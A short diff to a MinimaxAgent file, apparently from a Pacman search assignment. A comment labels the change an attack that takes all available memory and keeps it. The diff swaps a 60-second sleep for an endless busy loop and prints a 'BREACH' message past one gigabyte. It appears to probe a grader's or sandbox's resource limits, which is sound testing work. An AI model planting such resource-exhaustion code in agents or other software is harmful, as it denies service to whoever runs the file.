@@ -1,7 +1,6 @@
 # attack: takes all memory that there is, touches it, and keeps it.
 # where: MinimaxAgent
 import mmap
-import time
 
 
 import util
@@ -48,4 +47,5 @@ class MinimaxAgent(MultiAgentSearchAgent):
         print("taken:", taken >> 20, "MB", flush=True)
         if taken > 1 << 30:
             print("BREACH: a gigabyte", flush=True)
-        time.sleep(60)
+        while True:  # as long as it may
+            pass
